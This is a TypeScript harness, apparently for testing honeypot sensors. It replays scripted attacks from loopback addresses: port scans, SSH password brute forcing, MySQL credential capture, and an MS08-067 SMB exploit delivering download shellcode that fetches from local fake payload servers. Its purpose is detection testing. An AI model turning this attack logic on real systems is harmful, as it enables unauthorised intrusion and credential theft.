// Plays a scenario against live sensors with the real protocols (ssh2 for SSH, mysql2 for MySQL, raw
// TCP for scans, HTTP, and the MS08-067 exchange over SMB), each actor from its own loopback address,
// and returns the ground truth. Outside servers are small HTTP servers on their own loopback address.
import { createHash } from 'node:crypto';
import { createServer, request, type Server } from 'node:http';
import { connect } from 'node:net';
import { Client, type ClientChannel } from 'ssh2';
import type { GroundTruth, Scenario, ScenarioStep } from './scenario.js';
import { SmbTestClient, downloadShellcode, ms08067Stub } from './smb-client.js';
import { SRVSVC_UUID } from '../../sensors/smb/rpc/interfaces.js';
import { counted } from '../terminal.js';

/** Where the sensors listen. */
export interface Targets {
  host: string;
  ports: Partial<Record<'ssh' | 'mysql' | 'smb' | 'http' | 'telnet' | 'ftp', number>>;
}

/** Longest wait for any one network step. */
export const STEP_TIMEOUT_MS = 15_000;

interface Play {
  scenario: Scenario;
  targets: Targets;
  vars: Map<string, string>;
  truth: GroundTruth;
  log: (line: string) => void;
}

function sleep(ms: number): Promise<void> {
  return new Promise((r) => setTimeout(r, ms));
}

function withTimeout<T>(p: Promise<T>, what: string, ms = STEP_TIMEOUT_MS): Promise<T> {
  let timer: NodeJS.Timeout | undefined;
  return Promise.race([p, new Promise<T>((_, reject) => (timer = setTimeout(() => reject(new Error(`${what}: no answer in ${ms} ms`)), ms)))]).finally(() => clearTimeout(timer));
}

/** ${name} from captured variables and server base URLs; unknown names are left as they are. */
function fill(play: Play, s: string): string {
  return s.replace(/\$\{([a-z][a-z0-9_]*)\}/g, (m, n: string) => play.vars.get(n) ?? m);
}

function port(play: Play, service: keyof Targets['ports']): number {
  const p = play.targets.ports[service];
  if (p === undefined) throw new Error(`no ${service} sensor to play against (give its port)`);
  return p;
}

/** Serves each path with bytes unique to this server and path (a distinct "file" per URL). */
async function startServers(play: Play): Promise<Server[]> {
  const servers: Server[] = [];
  for (const [name, s] of Object.entries(play.scenario.servers)) {
    const server = createServer((req, res) => {
      const path = (req.url ?? '/').slice(0, 500);
      const strings = (s.files[path.split('?')[0]!]?.strings ?? []).map((x) => `\0${x}\0`).join('');
      const body = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01\0'), createHash('sha256').update(`${s.ip}${path}`).digest(), Buffer.from(`\0payload ${path}\0${strings}`)]);
      res.writeHead(200, { 'content-type': 'application/octet-stream', 'content-length': body.length }).end(body);
    });
    await new Promise<void>((resolve, reject) => {
      server.once('error', reject);
      server.listen(0, s.ip, () => resolve());
    });
    servers.push(server);
    play.vars.set(name, `http://${s.ip}:${(server.address() as { port: number }).port}`);
  }
  return servers;
}

function sshConnect(play: Play, actor: string, user: string, password: string): Promise<Client> {
  const a = play.scenario.actors[actor]!;
  return withTimeout(
    new Promise<Client>((resolve, reject) => {
      const c = new Client();
      c.on('ready', () => resolve(c));
      c.on('error', (err) => reject(err));
      c.connect({
        host: play.targets.host, port: port(play, 'ssh'), localAddress: a.ip, username: user, password,
        ident: a.ssh_client ?? `sim_${play.scenario.name}_${actor}`.slice(0, 60), readyTimeout: STEP_TIMEOUT_MS, tryKeyboard: false,
      });
    }),
    `ssh login from ${a.ip}`,
  );
}

/** Runs COMMANDS in an interactive shell, pausing as a person types; returns each command's output. */
async function shell(c: Client, commands: readonly string[], typing: readonly [number, number], keys: readonly [number, number]): Promise<string[]> {
  const ch = await new Promise<ClientChannel>((resolve, reject) => c.shell({ term: 'xterm', cols: 120, rows: 40 }, (err, s) => (err ? reject(err) : resolve(s))));
  let buf = '';
  ch.on('data', (d: Buffer) => (buf += d.toString('utf8')));
  const prompt = async (): Promise<void> => {
    const end = Date.now() + STEP_TIMEOUT_MS;
    while (!/[#$] $/.test(buf) && Date.now() < end) await sleep(20);
  };
  await prompt();
  const outputs: string[] = [];
  for (const cmd of commands) {
    const [lo, hi] = typing;
    if (hi > 0) await sleep(lo + Math.floor(Math.random() * Math.max(1, hi - lo)));
    buf = '';
    if (keys[1] > 0) {
      // One key at a time, at an uneven pace, as a person types (the recording keeps each key's time).
      for (const k of cmd) {
        ch.write(k);
        await sleep(keys[0] + Math.floor(Math.random() * Math.max(1, keys[1] - keys[0])));
      }
      ch.write('\r');
    } else ch.write(`${cmd}\n`);
    await sleep(30);
    await prompt();
    outputs.push(buf);
  }
  ch.end('exit\n');
  await withTimeout(new Promise<void>((r) => ch.once('close', () => r())), 'shell exit').catch(() => {});
  return outputs;
}

async function playStep(play: Play, step: ScenarioStep): Promise<{ ok: boolean; detail: string }> {
  switch (step.do) {
    case 'wait':
      await sleep(step.ms);
      return { ok: true, detail: `${step.ms} ms` };
    case 'scan': {
      const a = play.scenario.actors[step.actor]!;
      const open: number[] = [];
      for (const p of step.ports) {
        const n = typeof p === 'number' ? p : port(play, p as keyof Targets['ports']);
        const ok = await new Promise<boolean>((resolve) => {
          const s = connect({ host: play.targets.host, port: n, localAddress: a.ip });
          s.setTimeout(2000, () => s.destroy());
          s.on('connect', () => setTimeout(() => s.destroy(), 150));
          s.on('error', () => resolve(false));
          s.on('close', (hadError) => resolve(!hadError));
        });
        if (ok) open.push(n);
      }
      return { ok: open.length > 0, detail: `open ports ${open.join(',')}` };
    }
    case 'ssh_bruteforce': {
      let found: string | undefined;
      let unanswered = 0;
      for (const pw of step.passwords) {
        const password = fill(play, pw);
        try {
          const c = await sshConnect(play, step.actor, fill(play, step.user), password);
          c.end();
          found = password;
          if (step.stop_on_success) break;
        } catch (err) {
          // A refused password: the next one. Anything else (no connection, a timeout) is a failed step.
          if ((err as { level?: string }).level !== 'client-authentication') unanswered++;
        }
      }
      const ok = step.expect === 'found' ? found !== undefined : unanswered === 0;
      return { ok, detail: found ? `found a password after ${counted(step.passwords.indexOf(found) + 1, 'try', 'tries')}` : `no password found${unanswered ? `; ${counted(unanswered, 'attempt')} unanswered` : ''}` };
    }
    case 'ssh_session': {
      const c = await sshConnect(play, step.actor, fill(play, step.user), fill(play, step.password));
      try {
        const outputs = await shell(c, step.commands.map((x) => fill(play, x)), step.typing_ms, step.keystroke_ms);
        for (const cap of step.capture) {
          const m = new RegExp(cap.regex).exec(outputs[cap.command] ?? '');
          if (m?.[1]) play.vars.set(cap.var, m[1]);
        }
        const missing = step.capture.filter((cap) => !play.vars.has(cap.var)).map((cap) => cap.var);
        return { ok: missing.length === 0, detail: `${counted(step.commands.length, 'command')}${missing.length ? `; not captured: ${missing.join(', ')}` : ''}` };
      } finally {
        c.end();
      }
    }
    case 'ssh_tunnel': {
      const c = await sshConnect(play, step.actor, fill(play, step.user), fill(play, step.password));
      try {
        const refused = await withTimeout(
          new Promise<boolean>((resolve) => c.forwardOut('127.0.0.1', 12345, step.target_host, step.target_port, (err, ch) => {
            if (ch) ch.end();
            resolve(err !== undefined);
          })),
          'tunnel request',
        );
        return { ok: true, detail: `tunnel to ${step.target_host}:${step.target_port} ${refused ? 'refused' : 'opened'}` };
      } finally {
        c.end();
      }
    }
    case 'mysql_session': {
      const mysql = await import('mysql2/promise');
      const a = play.scenario.actors[step.actor]!;
      const conn = await withTimeout(
        // mysql2 takes localAddress but does not pass it to the socket: hand it a socket bound to the actor's address.
        mysql.createConnection({ stream: () => connect({ host: play.targets.host, port: port(play, 'mysql'), localAddress: a.ip }), user: fill(play, step.user), password: fill(play, step.password), connectTimeout: STEP_TIMEOUT_MS }),
        `mysql login from ${a.ip}`,
      );
      try {
        for (const [i, q] of step.queries.entries()) {
          const [rows] = await withTimeout(conn.query(fill(play, q)), 'query');
          const cap = step.capture;
          if (cap && cap.query === i && Array.isArray(rows)) {
            const row = (rows as Record<string, unknown>[]).find((r) => typeof r.username === 'string' && r.username !== cap.skip_user);
            if (row) {
              play.vars.set(cap.user_var, String(row.username));
              play.vars.set(cap.password_var, String(row.password));
            }
          }
        }
        const ok = !step.capture || play.vars.has(step.capture.password_var);
        return { ok, detail: `${counted(step.queries.length, 'query', 'queries')}` };
      } finally {
        await conn.end().catch(() => {});
      }
    }
    case 'http_get': {
      const a = play.scenario.actors[step.actor]!;
      const { status, body } = await withTimeout(
        new Promise<{ status: number; body: string }>((resolve, reject) => {
          const req = request({ host: play.targets.host, port: port(play, 'http'), path: fill(play, step.path), localAddress: a.ip }, (res) => {
            const chunks: Buffer[] = [];
            res.on('data', (d: Buffer) => chunks.push(d));
            res.on('end', () => resolve({ status: res.statusCode ?? 0, body: Buffer.concat(chunks).toString('utf8') }));
          });
          req.on('error', reject);
          req.end();
        }),
        'http request',
      );
      for (const cap of step.capture) {
        const m = new RegExp(cap.regex).exec(body);
        if (m?.[1]) play.vars.set(cap.var, m[1]);
      }
      const missing = step.capture.filter((cap) => !play.vars.has(cap.var)).map((cap) => cap.var);
      return { ok: status > 0 && missing.length === 0, detail: `HTTP ${status}${missing.length ? `; not captured: ${missing.join(', ')}` : ''}` };
    }
    case 'smb_ms08_067': {
      const a = play.scenario.actors[step.actor]!;
      const c = await withTimeout(SmbTestClient.open(port(play, 'smb'), play.targets.host, a.ip), 'smb connect');
      try {
        await withTimeout(c.logon(), 'smb logon');
        await withTimeout(c.treeConnect(`\\\\${play.targets.host}\\IPC$`), 'tree connect');
        const fid = await withTimeout(c.openPipe('\\BROWSER'), 'open pipe');
        await withTimeout(c.bind(fid, SRVSVC_UUID, 3), 'rpc bind');
        const code = Buffer.concat([Buffer.alloc(16, 0x90), downloadShellcode(fill(play, step.url))]);
        const status = await withTimeout(c.writePipe(fid, c.rpcRequest(31, ms08067Stub(code))), 'NetprPathCanonicalize');
        return { ok: status === 0, detail: `MS08-067 NetprPathCanonicalize, status ${status}` };
      } finally {
        c.close();
      }
    }
  }
}

/** Plays SCENARIO against TARGETS; resolves with the ground truth once every step has run. */
export async function playScenario(scenario: Scenario, targets: Targets, log: (line: string) => void = () => {}): Promise<GroundTruth> {
  const addr = (n: string): string => scenario.actors[n]?.ip ?? scenario.servers[n]?.ip ?? n;
  const truth: GroundTruth = {
    scenario: scenario.name,
    actors: Object.fromEntries([...Object.entries(scenario.actors), ...Object.entries(scenario.servers)].map(([n, a]) => [n, a.ip])),
    chains: scenario.chains.map((c) => ({
      name: c.name,
      members: c.members.map(addr),
      links: c.links.map((l) => ({ type: l.type, from: addr(l.from), to: addr(l.to) })),
      intents: c.intents,
      techniques: c.techniques,
    })),
    played: [],
  };
  const play: Play = { scenario, targets, vars: new Map(), truth, log };
  const servers = await startServers(play);
  try {
    for (const step of scenario.steps) {
      const actor = 'actor' in step ? step.actor : '-';
      const ip = 'actor' in step ? addr(step.actor) : '-';
      let r: { ok: boolean; detail: string };
      try {
        r = await playStep(play, step);
      } catch (err) {
        r = { ok: false, detail: (err as Error).message };
      }
      truth.played.push({ time: new Date().toISOString(), actor, ip, do: step.do, ok: r.ok, detail: r.detail });
      log(`${step.do.padEnd(15)} ${actor.padEnd(10)} ${ip.padEnd(15)} ${r.ok ? 'ok  ' : 'FAIL'} ${r.detail}`);
    }
  } finally {
    await Promise.all(
      servers.map((s) => {
        s.closeAllConnections();
        return new Promise<void>((r) => s.close(() => r()));
      }),
    );
  }
  return truth;
}
